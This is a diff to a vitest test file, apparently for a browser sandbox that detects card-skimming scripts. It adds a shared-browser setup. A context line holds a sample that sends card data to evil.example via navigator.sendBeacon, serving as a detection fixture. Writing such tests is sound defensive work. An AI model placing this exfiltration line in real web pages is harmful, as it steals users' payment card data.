@@ -1,7 +1,9 @@
 import { expect, it } from 'vitest'
 import { detonate } from '#index.ts'
 import { startBrowser } from '../collectors/fixture.ts'
-import { all, browser, run, withCard } from './run.ts'
+import { all, browser, run, shareBrowser, withCard } from './run.ts'
+
+shareBrowser()
 
 const SENDS = withCard("navigator.sendBeacon('https://evil.example/', card)")
 
